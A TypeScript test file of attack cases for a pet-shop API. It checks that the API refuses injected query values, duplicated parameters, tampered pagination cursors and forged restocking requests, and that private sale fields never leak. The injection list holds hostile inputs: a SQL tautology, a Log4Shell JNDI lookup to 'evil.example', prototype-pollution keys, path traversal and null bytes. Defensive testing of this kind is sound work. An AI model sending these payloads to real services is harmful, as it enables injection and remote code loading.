import { refusals, sent } from './attack.ts';
import type { Attack } from './attack.ts';
import { OWN } from './setup.ts';
import type { Setup } from './setup.ts';

const { accessDenied, badRequest, missingToken } = refusals;

const get = (query: string) => ({ method: 'GET', target: `/api/pets?${query}` });

/** What would widen a query if it ever became part of an expression, a key or another language. */
const injections = [
  '%23sortKey',
  ':partition',
  "' OR '1'='1",
  '{"S":"dog"}',
  '*',
  '%25',
  'dog\u0000',
  'dog\t0000000000000003',
  'dog\n',
  '../removed/',
  'default/removed/',
  '${jndi:ldap://evil.example}',
  '__proto__',
  'constructor',
];

const injected = injections.flatMap((value): Attack[] => {
  const text = encodeURIComponent(value);
  return [
    {
      name: `a visitor chooses the type ${JSON.stringify(value)}`,
      refused: /^(200 nothing|400 type must be visible text.*)$/,
      attempt: async (setup) => {
        const outcome = await setup.api(get(`type=${text}&sort=price-asc`));
        return { ...outcome, summary: outcome.summary + (outcome.body === '[]' ? ' nothing' : '') };
      },
    },
    sent(`a visitor sorts by ${JSON.stringify(value)}`, get(`sort=${text}`), /^400 sort must be/),
    sent(
      `a visitor has those available that are ${JSON.stringify(value)}`,
      get(`available=${text}`),
      /^400 available must be/,
    ),
    sent(
      `a visitor looks on from the position ${JSON.stringify(value)}`,
      get(`sort=price-asc&after=${text}`),
      /^400 after must be taken/,
    ),
  ];
});

const twice = [
  'sort=price-asc&sort=newest&after=price-asc.1.1',
  'after=price-asc.0.1&sort=price-asc&after=price-desc.0.1',
  'type=dog&type=',
  'type[]=dog&type=%00',
  'available=true&available=yes',
].map((query) => sent(`a visitor chooses twice by ?${query}`, get(query), /^400 /));

/** Positions of one query in another, and positions that lie outside the list. */
const positions: [string, string | RegExp][] = [
  ['sort=price-desc&after=price-asc.2000.3', /^400 /],
  ['sort=newest&after=price-asc.2000.3', /^400 /],
  ['sort=price-asc&before=3', /^400 /],
  ['sort=price-asc&after=WyI5OTk5IiwxLCJkZWZhdWx0Il0', /^400 /],
  ['sort=price-asc&after=price-asc.0.1&username=default/removed/', '200'],
  ['sort=price-asc&after=price-asc.0.1&listPartition=default/removed/', '200'],
  ['sort=price-asc&limit=100&after=price-asc.0.1', '200'],
  ['sort=price-desc&limit=100&after=price-desc.100000000.9007199254740991', '200'],
  ['type=goldfish&limit=100&before=9007199254740991', '200'],
];

/** A pet of Ann's that was taken off the list, which nothing public shows any more. */
const unseen = positions.map(([query, refused]): Attack => ({
  name: `a visitor looks on by ?${query}`,
  refused,
  attempt: async (setup) => {
    const outcome = await setup.api(get(query));
    const leaks = /"(buyer|soldBy|soldAt|listPartition|by[PT]\w+|username|timesPutBack)"/.exec(
      outcome.body,
    );
    return leaks ? { ...outcome, summary: `200 with ${leaks[0]}` } : outcome;
  },
}));

const types = ['POST', 'PUT', 'DELETE', 'PATCH'].map((method) =>
  sent(
    `a keeper calls the types by ${method}`,
    { method, target: '/api/pets/types' },
    missingToken,
    'keeper',
  ),
);

const details = { type: 'dragon', price: 1 };

const soldAtOf = async ({ keeper, shop }: Setup, id: number): Promise<string> => {
  const headers = { 'x-id-token': keeper.idToken };
  const { body } = await shop.call('/pets/purchase', { headers }, keeper);
  return (body as { id: number; soldAt: string }[]).find((sale) => sale.id === id)?.soldAt ?? '';
};

const putBack = (
  name: string,
  id: number,
  by: 'eve' | 'keeper',
  refused: string | RegExp,
  more: (setup: Setup) => object | Promise<object>,
): Attack => ({
  name,
  refused,
  attempt: async (setup) => {
    const body = JSON.stringify({ ...details, ...(await more(setup)) });
    return setup.api({ method: 'PUT', target: `/api/pets/${id}`, body }, setup[by]);
  },
});

const ofAnn = async (setup: Setup) => ({ soldAt: await soldAtOf(setup, OWN.ann) });
const soldAt = '2026-01-31T12:00:00.000Z';

const restored = [
  putBack('a buyer puts a sold pet back', 77, 'eve', accessDenied, ofAnn),
  putBack('a buyer puts the own pet back', OWN.eve, 'eve', accessDenied, () => ({ soldAt })),
  putBack('a keeper puts back a pet that is on the list', OWN.ann, 'keeper', '200', ofAnn),
  putBack('a keeper puts back a sale under the id of another', 1, 'keeper', /^404 /, ofAnn),
  putBack('a keeper puts back a sale that there never was', 77, 'keeper', /^404 /, () => ({
    soldAt,
  })),
  putBack('a keeper puts back a sale to a buyer of choice', 77, 'keeper', badRequest, () => ({
    soldAt,
    buyer: 'amazon|eve',
  })),
  ...['default', '../default', `${soldAt}/../..`, `\u0000${soldAt}`, `${soldAt}\n`].map((time) =>
    putBack(
      `a keeper puts back a sale at the time ${JSON.stringify(time)}`,
      77,
      'keeper',
      badRequest,
      () => ({ soldAt: time }),
    ),
  ),
];

export const queryAttacks: readonly Attack[] = [
  ...injected,
  ...twice,
  ...unseen,
  ...types,
  ...restored,
];
